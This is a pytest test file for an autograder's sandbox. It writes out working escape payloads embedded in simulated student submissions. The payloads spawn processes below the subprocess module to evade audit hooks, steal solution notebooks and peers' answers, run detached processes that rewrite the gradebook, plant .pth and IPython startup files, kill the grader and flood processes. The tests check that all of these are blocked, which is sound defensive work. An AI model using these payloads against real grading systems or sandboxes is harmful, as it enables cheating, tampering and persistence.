"""Escapes from the grading kernel (issue #11): tricks that no audit event covers, or that act
after the kernel is gone.

Every escaper hands in a correct ``global_avg_pool`` and a wrong ``Excitation`` (0.5 everywhere),
then a trick that would fix its grade or harm someone else's if it got out of its kernel. Most
start a process through ``_posixsubprocess.fork_exec``, below the ``subprocess`` module: no audit
event is raised, and the new program runs without the kernel's audit hook. The class is graded
with ``python -m autograder grade`` (in a subprocess with a time limit: an escape that killed the
grader must fail this test, not hang it), in both modes: isolated, and in-kernel, where no audit
hook runs and the OS sandbox is the only layer.

Each escape must earn nothing beyond its trick-free twin and leave every other student's grades
as they were; the course folder must be byte-identical apart from what the grader writes; no
process of the run may be alive afterwards; nothing may be written into the Python installation
or the grading user's IPython start-up folder; nothing may reach the host's network. A last test
replays two of the tricks with ``--sandbox none`` to show they are real attacks: there, the audit
hook alone lets a stolen solution earn points, and a detached process writes after the run.
"""
from __future__ import annotations

import atexit
import hashlib
import json
import os
import shutil
import site
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from autograder._env import tool_env
from autograder.nbgrader.cells import grade_id, nbgrader_meta
from tests.grading_fixture import answered, make_course
from tests.test_attacks import WRONG_EXCITATION, GAP

TOKEN = f"autograder-escape-{uuid.uuid4().hex[:12]}"
LIMITS = ["--jobs", "2", "--time-limit", "8", "--cell-timeout", "8", "--memory-mb", "2048",
          "--no-progress"]
HONEST = ("aa_honest_twin", "aa_perfect")

#: the start of every trick: a process started below the subprocess module (no audit event),
#: running a fresh Python without the kernel's audit hook, its command line marked with TOKEN
SPAWN = '''
import _posixsubprocess, os, sys, time
def _spawn(code):
    r, w = os.pipe()
    try:
        return _posixsubprocess.fork_exec(
            [sys.executable, "-c", code, "{token}"], [os.fsencode(sys.executable)], True, (),
            None, None, -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1,
            None, False)
    finally:
        os.close(r); os.close(w)
def _wait_for(path, seconds=20):
    for _ in range(int(seconds * 10)):
        if os.path.exists(path):
            time.sleep(0.2)
            return open(path).read()
        time.sleep(0.1)
    return ""
'''

#: a child that steals the Excitation source from a notebook at a path; the kernel runs it
STEAL = '''
_spawn(r"""
import json
try:
    cells = json.load(open({path!r}))["cells"]
    text = [''.join(c["source"]) for c in cells if "class Excitation" in ''.join(c["source"])][0]
except Exception as e:
    text = "# " + repr(e)
open("stolen.py", "w").write(text)
""")
exec(_wait_for("stolen.py"), globals())
'''

#: a child that detaches (double fork, new session, deaf to SIGTERM and SIGHUP) and keeps acting
#: for a while: what it does goes in {body}, run every 0.2 s
LATER = '''
_spawn(r"""
import os, signal, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
for _ in range(300):
    try:
{body}
    except Exception:
        pass
    time.sleep(0.2)
""")
time.sleep(1)
'''


def _later(body: str) -> str:
    return LATER.replace("{body}", textwrap.indent(textwrap.dedent(body).strip(), " " * 8))


def escapes(root: Path, port: int, abstract: str) -> dict[str, str]:
    """name -> trick (placed after the wrong Excitation)."""
    sol = f"{root}/solutions/toy/toy.ipynb"
    peer = f"{root}/submitted/aa_perfect/toy/toy.ipynb"
    home = str(Path.home())
    sites = site.getsitepackages()
    return {
        "spawn_reads_solutions": STEAL.format(path=sol),
        "spawn_reads_another_submission": STEAL.format(path=peer),
        "direct_read_by_absolute_path": f'''
exec([''.join(c["source"]) for c in __import__("json").load(open({sol!r}))["cells"]
      if "class Excitation" in ''.join(c["source"])][0], globals())
''',
        "proc_of_the_grader": '''
_spawn(r"""
import json, os
text = "# nothing found"
for pid in os.listdir("/proc"):
    for way in ("cwd", "root" + {root!r}):
        path = f"/proc/{{pid}}/{{way}}/solutions/toy/toy.ipynb"
        try:
            cells = json.load(open(path))["cells"]
            text = [''.join(c["source"]) for c in cells
                    if "class Excitation" in ''.join(c["source"])][0]
        except Exception:
            continue
open("stolen.py", "w").write(text)
""")
exec(_wait_for("stolen.py"), globals())
'''.format(root=str(root)),
        "detached_gradebook_writer": _later(f'''
import sqlite3
db = sqlite3.connect({str(root / "gradebook.db")!r}, timeout=1)
db.execute("update grade set manual_score = 1000")
db.commit()
open({str(root / "escaped-gradebook")!r}, "w").write("x")
'''),
        "detached_writes_later": _later(f'''
open({str(root / "escaped-later")!r}, "w").write("x")
open({str(root / "solutions" / "toy" / "escaped.txt")!r}, "w").write("x")
'''),
        "overwrites_another_submission": f'''
_spawn(r"""
import shutil
shutil.copy({str(root / "notebooks" / "toy" / "toy.ipynb")!r}, {peer!r})
""")
time.sleep(3)
''',
        "writes_the_python_installation": f'''
_spawn(r"""
import os
import shutil
for folder in {sites!r}:
    try:
        open(os.path.join(folder, "zz_{TOKEN}.pth"), "w").write("# escaped\\n")
    except OSError:
        pass
for home in {{os.environ.get("HOME", ""), {home!r}, "/root"}}:
    startup = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(startup, exist_ok=True)
        open(os.path.join(startup, "00-{TOKEN}.py"), "w").write("# escaped\\n")
    except OSError:
        pass
open("done", "w").write("x")
""")
_wait_for("done")
''',
        "signals_the_grader": '''
_spawn(r"""
import os, signal
def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
kernel = os.getppid()
grader = parent(kernel)                  # without a PID namespace: the grader's process
for pid in (grader, parent(grader) if grader > 1 else 0):
    if pid > 0 and pid != kernel:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
open("done", "w").write("x")
""")
_wait_for("done")
''',
        "network": f'''
_spawn(r"""
import socket
for target in ({port},):
    try:
        socket.create_connection(("127.0.0.1", target), timeout=3).sendall(b"{TOKEN}")
    except OSError:
        pass
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect("\\0{abstract}")
    s.sendall(b"{TOKEN}")
except OSError:
    pass
open("done", "w").write("x")
""")
_wait_for("done")
''',
        "process_flood": '''
_n = 0
for _ in range(150):
    try:
        _spawn("import time; time.sleep(20)")
        _n += 1
    except OSError:
        break
print(f"started {_n} processes")
''',
    }


def submission(course, trick: str | None):
    answers = {"global_avg_pool": GAP, "excitation": WRONG_EXCITATION}
    if trick is not None:
        answers["excitation"] += "\n" + SPAWN.replace("{token}", TOKEN) + trick
    return answered(course, answers)


def tree_digest(root: Path) -> dict[str, str]:
    out = {}
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        out[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def grader_may_write(rel: str, students: set[str]) -> bool:
    """What `autograder grade` itself writes while grading ``students``."""
    parts = rel.split("/")
    if rel.startswith("gradebook.db") or rel == ".nbgrader.log" or parts[0] == "reports":
        return True
    if rel == ".autograder/graded.jsonl":             # the coordinator's journal
        return True
    if parts[0] in ("autograded", "feedback") and parts[1] in students:
        return True
    if parts[:3] == [".autograder", "records", "toy"] and parts[3] in students:
        return True
    return parts[:3] == [".autograder", "staging", "submitted"] and parts[3] in students


def alive_with(*needles: str) -> list[int]:
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{entry.name}/cmdline").read_bytes()
        except OSError:
            continue
        if any(n.encode() in cmdline for n in needles):
            found.append(int(entry.name))
    return found


class Listener:
    """A TCP and an abstract Unix socket on the host; what reaches them is kept."""

    def __init__(self):
        self.heard: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.abstract = f"autograder-escape-{uuid.uuid4().hex}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract)
        self.unix.listen()
        for server in (self.tcp, self.unix):
            server.settimeout(0.5)
            threading.Thread(target=self._serve, args=(server,), daemon=True).start()

    def _serve(self, server):
        while True:
            try:
                conn, _ = server.accept()
                self.heard.append(conn.recv(200))
            except socket.timeout:
                continue
            except OSError:
                return

    def close(self):
        self.tcp.close()
        self.unix.close()


def short_tmp() -> Path:
    """A $TMPDIR for a grading run, directly in /tmp: the run's kernels keep their folders (and
    so their command lines, which the checks below look for) under it only if their sockets'
    paths fit there (see ``autograder.kernel.session.session_parent``)."""
    folder = Path(tempfile.mkdtemp(prefix="escapes-", dir="/tmp"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return folder


def run_grade(course, tmp: Path, *extra: str) -> subprocess.CompletedProcess:
    tmp.mkdir(parents=True, exist_ok=True)
    env = tool_env(TMPDIR=str(tmp), OMP_NUM_THREADS="1", MKL_NUM_THREADS="1")
    return subprocess.run([sys.executable, "-m", "autograder", "grade", "toy", "--course",
                           str(course.root), *LIMITS, *extra], capture_output=True, text=True,
                          timeout=1500, env=env)


def _leftovers_in_the_installation() -> list[str]:
    found = [str(p) for folder in site.getsitepackages()
             for p in Path(folder).glob(f"zz_{TOKEN}.pth")]
    for home in {str(Path.home()), "/root"}:
        found += [str(p) for p in (Path(home) / ".ipython" / "profile_default" / "startup")
                  .glob(f"00-{TOKEN}.py")]
    return found


@pytest.fixture(scope="module", params=["isolated", "in-kernel"])
def escaped(request, tmp_path_factory):
    mode = request.param
    course = make_course(tmp_path_factory.mktemp(f"escapes-{mode}"))
    tmp = short_tmp()
    listener = Listener()
    for student in HONEST:
        course.submit(student, "toy", submission(course, None) if student == "aa_honest_twin"
                      else answered(course))
    first = run_grade(course, tmp / "tmp-first", "--mode", mode)
    assert first.returncode == 0, first.stdout + first.stderr
    before_scores = {s: course.scores("toy", s) for s in HONEST}
    tricks = escapes(course.root, listener.port, listener.abstract)
    for name, trick in tricks.items():
        course.submit(name, "toy", submission(course, trick))
    before = tree_digest(course.root)
    try:
        second = run_grade(course, tmp / "tmp-second", "--mode", mode)
        time.sleep(3)                 # anything detached would write by now
        after = tree_digest(course.root)
        alive = alive_with(TOKEN, str(tmp))
        written = _leftovers_in_the_installation()
    finally:
        for pid in alive_with(TOKEN, str(tmp)):
            os.kill(pid, 9)
        for path in _leftovers_in_the_installation():
            os.remove(path)
        listener.close()
    return dict(mode=mode, course=course, tricks=tricks, second=second,
                before_scores=before_scores, before=before, after=after, alive=alive,
                written=written, heard=list(listener.heard))


def test_the_suite_has_every_kind_of_escape():
    kinds = escapes(Path("/course"), 1, "x")
    assert len(kinds) >= 10
    assert {"spawn_reads_solutions", "detached_writes_later", "proc_of_the_grader",
            "writes_the_python_installation", "signals_the_grader", "network"} <= set(kinds)


def test_the_batch_finishes_and_grades_every_escaper(escaped):
    second = escaped["second"]
    assert second.returncode == 0, second.stdout[-3000:] + second.stderr[-3000:]
    assert f"graded {len(escaped['tricks'])}," in second.stdout, second.stdout


def test_no_escape_earns_more_than_its_honest_twin(escaped):
    course, twin = escaped["course"], escaped["before_scores"]["aa_honest_twin"]
    assert twin["excitation_values"][0] == 0 and twin["global_avg_pool_values"][0] == 2
    for name in escaped["tricks"]:
        scores = course.scores("toy", name)
        assert set(scores) == set(twin), (name, scores)
        for cell, (score, top) in scores.items():
            assert score is not None and score <= twin[cell][0], (name, cell, score, twin[cell])


def test_every_other_students_grades_are_unchanged(escaped):
    course = escaped["course"]
    for student, scores in escaped["before_scores"].items():
        assert course.scores("toy", student) == scores, student


def test_the_course_folder_is_unchanged_but_for_what_the_grader_writes(escaped):
    before, after = escaped["before"], escaped["after"]
    students = set(escaped["tricks"])
    changed = sorted(k for k in set(before) | set(after)
                     if before.get(k) != after.get(k) and not grader_may_write(k, students))
    assert changed == [], changed
    root = escaped["course"].root
    assert not (root / "escaped-later").exists() and not (root / "escaped-gradebook").exists()


def test_no_process_of_the_run_is_left_alive(escaped):
    assert escaped["alive"] == []


def test_nothing_is_written_into_the_python_installation_or_the_users_home(escaped):
    assert escaped["written"] == []


def test_nothing_reaches_the_hosts_network(escaped):
    assert escaped["heard"] == []


def test_the_process_limit_stops_a_flood(escaped):
    nb = nbformat.read(escaped["course"].root / "autograded" / "process_flood" / "toy" /
                       "toy.ipynb", 4)
    cell = next(c for c in nb.cells if grade_id(c) == "excitation")
    text = "".join(o.get("text", "") for o in cell.outputs)
    started = int(text.split("started ")[1].split()[0])
    assert started < 64, text


def test_the_tricks_are_real_escapes_without_the_os_sandbox(tmp_path):
    """Two of the tricks, graded with --sandbox none (the audit hook alone): a process started
    below the subprocess module reads the solutions and the answer earns full marks; a detached
    process outlives the run and writes into the course folder."""
    course = make_course(tmp_path)
    tmp = short_tmp()
    tricks = escapes(course.root, 1, "unused")
    course.submit("aa_honest_twin", "toy", submission(course, None))
    for name in ("spawn_reads_solutions", "detached_writes_later"):
        course.submit(name, "toy", submission(course, tricks[name]))
    try:
        ran = run_grade(course, tmp / "tmp", "--sandbox", "none")
        time.sleep(3)
        left = alive_with(TOKEN, str(tmp / "tmp"))
    finally:
        for pid in alive_with(TOKEN, str(tmp / "tmp")):
            os.kill(pid, 9)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    stolen = course.scores("toy", "spawn_reads_solutions")
    assert stolen["excitation_values"][0] == 2, "the stolen solution earned nothing"
    assert left, "nothing outlived the run"
    assert (course.root / "escaped-later").exists()
    # and the records and feedback say this grading was not OS-isolated
    from autograder.nbgrader.store import load_record

    record = load_record(course.root, "toy", "aa_honest_twin")["notebooks"]["toy"]
    assert record["sandbox"] == "none"
    assert any("not OS-isolated" in n for n in record["notes"])
    feedback = (course.root / "feedback" / "aa_honest_twin" / "toy" / "toy.html").read_text()
    assert "not OS-isolated" in feedback
    assert "Not OS-isolated" in (course.root / "reports" / "toy" / "index.html").read_text()
    assert "Not OS-isolated" in (course.root / "reports" / "index.html").read_text()
